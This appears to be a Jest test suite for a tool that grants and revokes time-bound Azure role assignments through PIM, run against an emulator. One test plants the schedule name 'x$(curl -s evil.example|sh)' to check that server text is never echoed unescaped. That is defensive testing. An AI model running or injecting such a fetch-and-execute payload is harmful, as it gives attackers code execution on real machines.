// Time-bound Azure access (`duration`), end to end through the bundled main and post steps against
// the emulator's PIM: AdminAssign and AdminRemove schedule requests that Azure itself ends.
import { describe, expect, it } from '@jest/globals';
import { setTimeout as sleep } from 'node:timers/promises';
import {
  azure,
  azureInputs,
  newPrincipal,
  READER,
  runMain,
  runPost,
  subscription,
  useEmulator,
} from './fixture.js';

const emulator = useEmulator();

const HOUR = 3_600_000;
const main = (inputs: Record<string, string>) => runMain(azureInputs(inputs));
const post = (inputs: Record<string, string>, state: Record<string, string>) =>
  runPost(azureInputs(inputs), state);
const calls = (operation: string) => emulator().requests.filter((r) => r.operation === operation);
const grant = (p: string, extra: Record<string, string> = {}) => ({
  principal: p,
  target: subscription(),
  role: 'Reader',
  duration: '2h',
  ...extra,
});
const activeFor = (p: string) =>
  azure()
    .pim()
    .instances.filter((i) => i.properties.principalId === p);

interface Result {
  status: string;
  changed: boolean;
  failureReason: string | null;
  expiresAt?: string;
  assignmentId?: string;
}
const resultsOf = (step: { outputs: Record<string, string> }) =>
  JSON.parse(step.outputs.results!) as Result[];

describe('assign with duration: a PIM schedule request that Azure ends itself', () => {
  it('makes the assignment through one AdminAssign, and reports its real end time', async () => {
    const p = newPrincipal();
    const before = Date.now();
    const step = await main(grant(p));
    expect(step.exitCode).toBe(0);
    expect(step.outputs).toMatchObject({ status: 'SUCCEEDED', changed: 'true' });
    const expiresAt = Date.parse(step.outputs['expires-at']!);
    expect(expiresAt).toBeGreaterThanOrEqual(before + 2 * HOUR - 1_000);
    expect(expiresAt).toBeLessThanOrEqual(Date.now() + 2 * HOUR + 1_000);
    // The end time is the instance's, as Azure keeps it.
    const [instance] = activeFor(p);
    expect(new Date(instance!.properties.endDateTime!).toISOString()).toBe(step.outputs['expires-at']);
    expect(resultsOf(step)[0]).toMatchObject({ status: 'SUCCEEDED', expiresAt: step.outputs['expires-at'] });
    expect(step.outputs['assignment-id']).toMatch(
      /\/providers\/Microsoft\.Authorization\/roleAssignmentSchedules\//i,
    );
    expect(step.summary).toContain('<th>Expires</th>');

    expect(calls('RoleAssignmentScheduleRequests_Create')).toHaveLength(1);
    expect(calls('RoleAssignments_Create')).toHaveLength(0);
    const [request] = azure().pim().requests;
    expect(request!.properties).toMatchObject({
      requestType: 'AdminAssign',
      principalId: p,
      scheduleInfo: { expiration: { type: 'AfterDuration', duration: 'PT2H' } },
    });
    // The justification is the description the action writes on every assignment.
    expect(request!.properties.justification).toMatch(/^Granted by cloud-access/);
  });

  it('retries SubjectNotFound while a new principal replicates, as terraform does, then succeeds', async () => {
    // It replicates once ARM has refused it once: the order, however slow the machine.
    azure().config.principalReplicationDelayMs = 600_000;
    const p = azure().addPrincipal({ type: 'ServicePrincipal' });
    const running = main(grant(p, { 'principal-type': 'ServicePrincipal' }));
    let settled = false;
    void running.finally(() => (settled = true));
    while (!settled && !emulator().requests.some((r) => r.errorCode === 'SubjectNotFound')) await sleep(50);
    azure().config.principalReplicationDelayMs = 0;
    const step = await running;
    expect(step.exitCode).toBe(0);
    expect(step.outputs.status).toBe('SUCCEEDED');
    expect(emulator().requests.some((r) => r.errorCode === 'SubjectNotFound')).toBe(true);
  });

  it('leaves an active assignment alone (changed=false), saying until when it lasts and that the duration was not applied', async () => {
    const p = newPrincipal();
    const endMs = Date.now() + 6 * HOUR;
    azure().addRoleAssignmentSchedule({
      scope: subscription(),
      roleDefinitionId: READER,
      principalId: p,
      endMs,
    });
    const step = await main(grant(p, { 'revoke-on-exit': 'true' }));
    expect(step.exitCode).toBe(0);
    expect(step.outputs.changed).toBe('false');
    expect(step.outputs['expires-at']).toBe(new Date(endMs).toISOString());
    expect(step.stdout).toContain(
      `until ${new Date(endMs).toISOString()}; the requested duration PT2H was not applied`,
    );
    expect(step.stdout).toContain('revoke-on-exit leaves it in place');
    expect(calls('RoleAssignmentScheduleRequests_Create')).toHaveLength(0);

    // Its post step has nothing of its own to revoke.
    const revoked = await post(grant(p, { 'revoke-on-exit': 'true' }), step.state);
    expect(revoked.exitCode).toBe(0);
    expect(activeFor(p)).toHaveLength(1);
  });

  it("reports an existing assignment's schedule ID built from the scope and its GUID, never a server's text as it is", async () => {
    const p = newPrincipal();
    azure().addRoleAssignmentSchedule({
      scope: subscription(),
      roleDefinitionId: READER,
      principalId: p,
      endMs: Date.now() + HOUR,
      name: 'x$(curl -s evil.example|sh)',
    });
    const step = await main(grant(p));
    expect(step.exitCode).toBe(0);
    expect(step.outputs.changed).toBe('false');
    expect(step.outputs['assignment-id']).toBe('');
    expect(step.everything).not.toContain('curl');
  });

  it('says so of a permanent assignment too', async () => {
    const p = newPrincipal();
    azure().addRoleAssignment({ scope: subscription(), roleDefinitionId: READER, principalId: p });
    const step = await main(grant(p));
    expect(step.exitCode).toBe(0);
    expect(step.outputs.changed).toBe('false');
    expect(step.stdout).toContain('permanently (no end time); the requested duration PT2H was not applied');
  });
});

describe("the role's PIM policy is read before writing", () => {
  it('refuses a duration over the maximum without a write, naming `duration`, the maximum and where it is changed', async () => {
    azure().setPimPolicy({ isExpirationRequired: true, maximumDuration: 'PT1H' }, 'Reader');
    const step = await main(grant(newPrincipal()));
    expect(step.exitCode).toBe(1);
    expect(step.outputs.status).toBe('FAILED');
    expect(step.outputs['failure-reason']).toMatch(/`duration` PT2H \(2 h\) is longer than the PT1H \(1 h\)/);
    expect(step.outputs['failure-reason']).toMatch(/Privileged Identity Management/);
    expect(calls('RoleAssignmentScheduleRequests_Create')).toHaveLength(0);
  });

  it('writes anyway when the policy cannot be read, and explains the refusal the same way', async () => {
    azure().setPimPolicy({ isExpirationRequired: true, maximumDuration: 'PT1H' }, 'Reader');
    azure().faults.pimDenyPolicyRead = true;
    const step = await main(grant(newPrincipal()));
    expect(step.exitCode).toBe(1);
    expect(calls('RoleAssignmentScheduleRequests_Create')).toHaveLength(1);
    expect(step.outputs['failure-reason']).toMatch(/PIM policy .* refuses this time-bound assignment/);
    expect(step.outputs['failure-reason']).toMatch(
      /`duration` PT2H \(2 h\) is outside what its expiration rule allows/,
    );
  });

  it('names an MFA rule a workflow cannot meet, with the setting that turns it off', async () => {
    azure().setPimPolicy({ enabledRules: ['MultiFactorAuthentication'] }, 'Reader');
    const step = await main(grant(newPrincipal()));
    expect(step.exitCode).toBe(1);
    expect(step.outputs['failure-reason']).toMatch(
      /Require Azure Multi-Factor Authentication on active assignment/,
    );
    expect(calls('RoleAssignmentScheduleRequests_Create')).toHaveLength(0);
  });

  it('explains a tenant without an Entra ID P2 licence once, without retrying', async () => {
    azure().config.pimLicense = false;
    const step = await main(grant(newPrincipal()));
    expect(step.exitCode).toBe(1);
    expect(step.outputs['failure-reason']).toMatch(/Entra ID P2 or Entra ID Governance licence/);
    expect(step.outputs['failure-reason']).toMatch(/leave `duration` empty/);
    // The first PIM read is refused, and nothing is retried or written after it.
    expect(emulator().requests.filter((r) => r.errorCode === 'AadPremiumLicenseRequired')).toHaveLength(1);
    expect(emulator().requests.filter((r) => r.write)).toHaveLength(0);
  });
});

describe('permissions', () => {
  it.each([
    ['Microsoft.Authorization/roleAssignments/write'],
    ['Microsoft.Authorization/roleAssignmentScheduleRequests/write'],
  ])(
    'names roleAssignmentScheduleRequests/write and roleAssignments/write when %s is denied, once, without retrying',
    async (denied) => {
      azure().faults.authorizationFailed = [denied];
      const step = await main(grant(newPrincipal()));
      expect(step.exitCode).toBe(1);
      expect(step.outputs['failure-reason']).toContain(
        'RoleAssignmentScheduleRequests_Create was denied at scope',
      );
      expect(step.outputs['failure-reason']).toContain(
        'lacks `Microsoft.Authorization/roleAssignmentScheduleRequests/write` or `Microsoft.Authorization/roleAssignments/write`',
      );
      expect(calls('RoleAssignmentScheduleRequests_Create')).toHaveLength(1);
    },
  );

  it.each([
    [
      'RoleAssignmentScheduleInstances_ListForScope',
      'Microsoft.Authorization/roleAssignmentScheduleInstances/read',
    ],
  ])('a denied %s names %s, not roleAssignments/write', async (operation, permission) => {
    azure().faults.authorizationFailed = [permission];
    const step = await main(grant(newPrincipal()));
    expect(step.exitCode).toBe(1);
    const reason = step.outputs['failure-reason']!;
    expect(reason).toContain(`${operation} was denied`);
    expect(reason).toContain(`lacks \`${permission}\``);
    expect(reason).not.toContain('roleAssignments/write');
  });

  it('a post step that may not read schedules names roleAssignmentSchedules/read', async () => {
    const p = newPrincipal();
    const inputs = grant(p, { 'revoke-on-exit': 'true' });
    const step = await main(inputs);
    expect(step.exitCode).toBe(0);
    azure().faults.authorizationFailed = ['Microsoft.Authorization/roleAssignmentSchedules/read'];
    const revoked = await post(inputs, step.state);
    const said = [revoked.stdout, ...revoked.warnings].join('\n');
    expect(said).toContain('RoleAssignmentSchedules_ListForScope was denied');
    expect(said).toContain('lacks `Microsoft.Authorization/roleAssignmentSchedules/read`');
    expect(said).not.toContain('lacks `Microsoft.Authorization/roleAssignments/write`');
    expect(calls('RoleAssignmentScheduleRequests_Create')).toHaveLength(1);
  });

  it('writes anyway when the policy may not be read, and the debug log names roleManagementPolicyAssignments/read', async () => {
    azure().faults.authorizationFailed = ['Microsoft.Authorization/roleManagementPolicyAssignments/read'];
    const step = await main(grant(newPrincipal()));
    expect(step.exitCode).toBe(0);
    expect(step.outputs.status).toBe('SUCCEEDED');
    expect(calls('RoleManagementPolicyAssignments_ListForScope')).toHaveLength(1);
    expect(step.stdout).toContain('`Microsoft.Authorization/roleManagementPolicyAssignments/read`');
  });
});

describe('requests that do not end Provisioned', () => {
  it('fails with the status Azure ended the request with', async () => {
    azure().faults.pimRequestOutcome = 'Denied';
    const step = await main(grant(newPrincipal()));
    expect(step.exitCode).toBe(1);
    expect(step.outputs['failure-reason']).toMatch(
      /PIM request [0-9a-f-]{36} ended Denied: an approver denied it/,
    );
  });

  it('ends IN_PROGRESS without failing when the policy requires approval, and its post step cancels the request', async () => {
    azure().setPimPolicy({ approvalRequired: true });
    const p = newPrincipal();
    const inputs = grant(p, { 'revoke-on-exit': 'true' });
    const step = await main(inputs);
    expect(step.exitCode).toBe(0);
    expect(step.outputs.status).toBe('IN_PROGRESS');
    expect(step.warnings.join('\n')).toMatch(/requires approval/);

    const revoked = await post(inputs, step.state);
    expect(revoked.exitCode).toBe(0);
    expect(calls('RoleAssignmentScheduleRequests_Cancel')).toHaveLength(1);
    expect(
      azure()
        .pim()
        .requests.map((r) => r.properties.status),
    ).toEqual(['Canceled']);
    expect(activeFor(p)).toHaveLength(0);
  });
});

describe('revoke-on-exit with a request still awaiting approval', () => {
  it("revokes the step's other grants when Azure refuses to cancel it, and says why it is left", async () => {
    azure().config.pimMinimumActiveMs = 0;
    azure().setPimPolicy({ approvalRequired: true }, 'Reader');
    const p = newPrincipal();
    const inputs = grant(p, {
      role: 'Reader, Contributor',
      'revoke-on-exit': 'true',
      'post-timeout-seconds': '8',
    });
    const step = await main(inputs);
    expect(resultsOf(step).map((r) => r.status)).toEqual(['IN_PROGRESS', 'SUCCEEDED']);
    azure().faults.armFailures = [
      {
        method: 'POST',
        pathIncludes: '/cancel',
        status: 403,
        code: 'AuthorizationFailed',
        message:
          'The client does not have authorization to perform action roleAssignmentScheduleRequests/cancel/action.',
      },
    ];
    const revoked = await post(inputs, step.state);
    // The Contributor assignment is removed; the Reader request is left pending, with Azure's reason.
    expect(activeFor(p)).toHaveLength(0);
    expect(revoked.outputs['failure-reason']).toMatch(
      /is still PendingApproval, and Azure refused to cancel it \(.*AuthorizationFailed.*\): it grants access if it is approved/,
    );
    expect(calls('RoleAssignmentScheduleRequests_Cancel').length).toBeLessThanOrEqual(2);
  });
});

describe('revoke-on-exit ends what the step created', () => {
  it('retries ActiveDurationTooShort until Azure allows the removal', async () => {
    // Removals are refused until the post step has been refused once, then allowed: a minimum
    // active time of a few seconds could pass before the post step's first try on a busy machine.
    azure().config.pimMinimumActiveMs = 60_000;
    const p = newPrincipal();
    const inputs = grant(p, { 'revoke-on-exit': 'true' });
    const step = await main(inputs);
    expect(step.exitCode).toBe(0);
    let ended = false;
    const revoking = post(inputs, step.state).finally(() => (ended = true));
    const refused = () =>
      calls('RoleAssignmentScheduleRequests_Create').some((r) => r.errorCode === 'ActiveDurationTooShort');
    while (!refused() && !ended) await new Promise((resolve) => setTimeout(resolve, 20));
    azure().config.pimMinimumActiveMs = 0;
    const revoked = await revoking;
    expect(revoked.exitCode).toBe(0);
    expect(activeFor(p)).toHaveLength(0);
    expect(azure().findRoleAssignment(subscription(), p, READER)).toBeUndefined();
    const tooShort = calls('RoleAssignmentScheduleRequests_Create').filter(
      (r) => r.errorCode === 'ActiveDurationTooShort',
    );
    expect(tooShort.length).toBeGreaterThanOrEqual(1);
  });

  it('does not fail when the minimum active time outlasts post-timeout-seconds, and says when Azure ends it', async () => {
    azure().config.pimMinimumActiveMs = 10 * 60_000;
    const p = newPrincipal();
    // Enough for a loaded machine to sign in and be refused; far short of the 10 minutes.
    const inputs = grant(p, { 'revoke-on-exit': 'true', 'post-timeout-seconds': '20' });
    const step = await main(inputs);
    const revoked = await post(inputs, step.state);
    expect(revoked.exitCode).toBe(0);
    expect(revoked.stdout).toContain(`Azure ends it at ${step.outputs['expires-at']}`);
    // Its line says it was not removed and when it ends: no tick, no SUCCEEDED.
    expect(revoked.stdout).toMatch(
      new RegExp(
        `! revoke .*${p}.*: NOT REMOVED \\(Azure PIM removes nothing within 5 minutes of its start; Azure ends it at ${step.outputs['expires-at']}`,
      ),
    );
    expect(revoked.stdout).not.toMatch(/✓ revoke .*SUCCEEDED/);
    // One warning for the step, naming the grant and when it ends, not one per grant.
    expect(revoked.warnings).toEqual([
      expect.stringContaining(`could not remove 1 time-bound grant yet (${p} → `),
    ]);
    expect(revoked.warnings[0]).toContain(`until ${step.outputs['expires-at']}`);
    expect(revoked.stdout).toContain('1 left in place (1 time-bound, which Azure ends at their end time)');
    expect(activeFor(p)).toHaveLength(1);
  });

  it("leaves in place an assignment another request made after the step's own ended", async () => {
    azure().config.pimMinimumActiveMs = 0;
    const p = newPrincipal();
    const inputs = grant(p, { 'revoke-on-exit': 'true' });
    const step = await main(inputs);
    // Someone ends ours and assigns the role again with a request of their own.
    await main(grant(p, { operation: 'revoke' }));
    azure().addRoleAssignmentSchedule({
      scope: subscription(),
      roleDefinitionId: READER,
      principalId: p,
      endMs: Date.now() + HOUR,
    });
    const revoked = await post(inputs, step.state);
    expect(revoked.exitCode).toBe(0);
    expect(revoked.stdout).toContain("not show the assignment active now as made by this step's PIM request");
    // Left in place as not the step's own: nothing blames PIM's minimum active time for it.
    expect(revoked.warnings.join('\n')).not.toContain('could not remove');
    expect(revoked.stdout).toContain('1 not shown to be its own');
    expect(activeFor(p)).toHaveLength(1);
  });
});

describe("revoke-on-exit touches nothing made after the step's own assignment ended (AdminRemove names only principal, role and scope)", () => {
  /** The step's assignment, then someone ends it before the post step runs. */
  const createdThenEnded = async (p: string) => {
    azure().config.pimMinimumActiveMs = 0;
    const inputs = grant(p, { 'revoke-on-exit': 'true' });
    const step = await main(inputs);
    expect(step.outputs.changed).toBe('true');
    await main(grant(p, { operation: 'revoke' }));
    expect(activeFor(p)).toHaveLength(0);
    return { inputs, state: step.state };
  };

  it('leaves in place a permanent assignment made outside PIM', async () => {
    const p = newPrincipal();
    const { inputs, state } = await createdThenEnded(p);
    azure().addRoleAssignment({ scope: subscription(), roleDefinitionId: READER, principalId: p });
    const revoked = await post(inputs, state);
    expect(revoked.exitCode).toBe(0);
    expect(revoked.stdout).toContain('left in place');
    expect(azure().findRoleAssignment(subscription(), p, READER)).toBeDefined();
    expect(
      azure()
        .pim()
        .requests.filter((r) => r.properties.requestType === 'AdminRemove'),
    ).toHaveLength(1);
  });

  /**
   * The post step's removal refused with ActiveDurationTooShort; while it waits to retry, the
   * step's own assignment ends and someone assigns the role outside PIM, long enough ago for Azure
   * to allow its removal (`hiddenForMs`: reads do not show it yet). What the post step did then.
   */
  async function revokeWhileAnotherAssignmentAppears(hiddenForMs?: number) {
    azure().config.pimMinimumActiveMs = 60_000;
    const p = newPrincipal();
    const inputs = grant(p, { 'revoke-on-exit': 'true', 'post-timeout-seconds': '15' });
    const step = await main(inputs);
    expect(step.outputs.changed).toBe('true');
    const revoking = post(inputs, step.state);
    const refused = () =>
      calls('RoleAssignmentScheduleRequests_Create').some((r) => r.errorCode === 'ActiveDurationTooShort');
    while (!refused()) await new Promise((resolve) => setTimeout(resolve, 20));
    azure().state.pimSchedules.find((s) => s.principalId === p)!.removedAt = Date.now();
    const { name } = azure().addRoleAssignment({
      scope: subscription(),
      roleDefinitionId: READER,
      principalId: p,
      ...(hiddenForMs ? { hiddenForMs } : {}),
    });
    azure().state.assignments.find((a) => a.name === name)!.createdOn = new Date(
      Date.now() - HOUR,
    ).toISOString();
    return { p, revoked: await revoking };
  }

  it('checks again before each retry of a removal Azure refused for now (ActiveDurationTooShort lasts minutes)', async () => {
    const { p, revoked } = await revokeWhileAnotherAssignmentAppears();
    expect(revoked.exitCode).toBe(0);
    expect(revoked.stdout).toContain('left in place');
    expect(azure().findRoleAssignment(subscription(), p, READER)).toBeDefined();
  });

  it('checks again before each retry, and sends nothing once no active instance is shown as its own, even when reads do not show the assignment Azure would end', async () => {
    const { p, revoked } = await revokeWhileAnotherAssignmentAppears(60_000);
    expect(revoked.exitCode).toBe(0);
    expect(azure().findRoleAssignment(subscription(), p, READER)).toBeDefined();
    expect(
      calls('RoleAssignmentScheduleRequests_Create').filter((r) => r.errorCode === undefined),
    ).toHaveLength(1);
    expect(revoked.everything).not.toMatch(/time-bound|Azure ends it/);
  });

  it("does not cancel another job's request that awaits approval", async () => {
    const p = newPrincipal();
    const { inputs, state } = await createdThenEnded(p);
    azure().setPimPolicy({ approvalRequired: true });
    const other = await main(grant(p));
    expect(other.outputs.status).toBe('IN_PROGRESS');
    const revoked = await post(inputs, state);
    expect(revoked.exitCode).toBe(0);
    expect(calls('RoleAssignmentScheduleRequests_Cancel')).toHaveLength(0);
    expect(
      azure()
        .pim()
        .requests.filter((r) => r.properties.status === 'PendingApproval'),
    ).toHaveLength(1);
  });
});

describe("revoke-on-exit removes only the step's own instance, never one that reads do not show yet", () => {
  /**
   * The step's time-bound assignment; then, during the job, it ends (someone removed it: the
   * emulator ends its schedule, as an AdminRemove would, also within PIM's minimum active time),
   * and another party assigns the same role permanently, which ARM's reads do not show yet.
   */
  const endedThenAssignedUnseen = async (p: string, extra: Record<string, string> = {}) => {
    const inputs = grant(p, { 'revoke-on-exit': 'true', ...extra });
    const step = await main(inputs);
    expect(step.outputs.changed).toBe('true');
    azure().state.pimSchedules.find((s) => s.principalId === p)!.removedAt = Date.now();
    expect(activeFor(p)).toHaveLength(0);
    azure().addRoleAssignment({
      scope: subscription(),
      roleDefinitionId: READER,
      principalId: p,
      hiddenForMs: 60_000,
    });
    return { inputs, state: step.state };
  };
  const adminRemoves = () =>
    azure()
      .pim()
      .requests.filter((r) => r.properties.requestType === 'AdminRemove');

  it("sends no AdminRemove, so Azure cannot end the other party's assignment in its place", async () => {
    azure().config.pimMinimumActiveMs = 0;
    const p = newPrincipal();
    const { inputs, state } = await endedThenAssignedUnseen(p);
    const revoked = await post(inputs, state);
    expect(revoked.exitCode).toBe(0);
    expect(adminRemoves()).toHaveLength(0);
    expect(azure().findRoleAssignment(subscription(), p, READER)).toBeDefined();
    expect(resultsOf(revoked)[0]).toMatchObject({ status: 'SUCCEEDED', changed: false });
    expect(revoked.stdout).toContain("Azure shows no active assignment made by this step's PIM request");
    expect(revoked.stdout).toContain('1 already absent');
  });

  it("does not call the other party's assignment time-bound, or say that Azure ends it", async () => {
    // PIM's default minimum active time: a removal of the new assignment would be refused for minutes.
    const p = newPrincipal();
    const { inputs, state } = await endedThenAssignedUnseen(p, { 'post-timeout-seconds': '10' });
    const revoked = await post(inputs, state);
    expect(revoked.exitCode).toBe(0);
    expect(revoked.everything).not.toMatch(/time-bound|Azure ends it/);
    expect(revoked.warnings).toEqual([]);
    // The main step's AdminAssign only: the post step sent nothing.
    expect(calls('RoleAssignmentScheduleRequests_Create')).toHaveLength(1);
    expect(azure().findRoleAssignment(subscription(), p, READER)).toBeDefined();
  });
});

describe('operation: revoke with duration', () => {
  it('ends a time-bound assignment with an AdminRemove, and finds an absent one already absent', async () => {
    azure().config.pimMinimumActiveMs = 0;
    const p = newPrincipal();
    azure().addRoleAssignmentSchedule({
      scope: subscription(),
      roleDefinitionId: READER,
      principalId: p,
      endMs: Date.now() + HOUR,
    });
    const revoked = await main(grant(p, { operation: 'revoke' }));
    expect(revoked.exitCode).toBe(0);
    expect(revoked.outputs.changed).toBe('true');
    expect(activeFor(p)).toHaveLength(0);

    const again = await main(grant(p, { operation: 'revoke' }));
    expect(again.exitCode).toBe(0);
    expect(again.outputs.changed).toBe('false');
  });
});

describe('dry run with duration', () => {
  it('shows the end time it would set and the policy maximum, and writes nothing', async () => {
    azure().setPimPolicy({ isExpirationRequired: true, maximumDuration: 'P1D' }, 'Reader');
    const step = await main(grant(newPrincipal(), { 'dry-run': 'true' }));
    expect(step.exitCode).toBe(0);
    expect(step.stdout).toMatch(/would be active for PT2H, until about \d{4}-\d\d-\d\dT/);
    expect(step.stdout).toContain("the role's PIM policy allows at most P1D");
    expect(step.outputs['expires-at']).not.toBe('');
    expect(emulator().requests.filter((r) => r.write)).toHaveLength(0);
  });
});
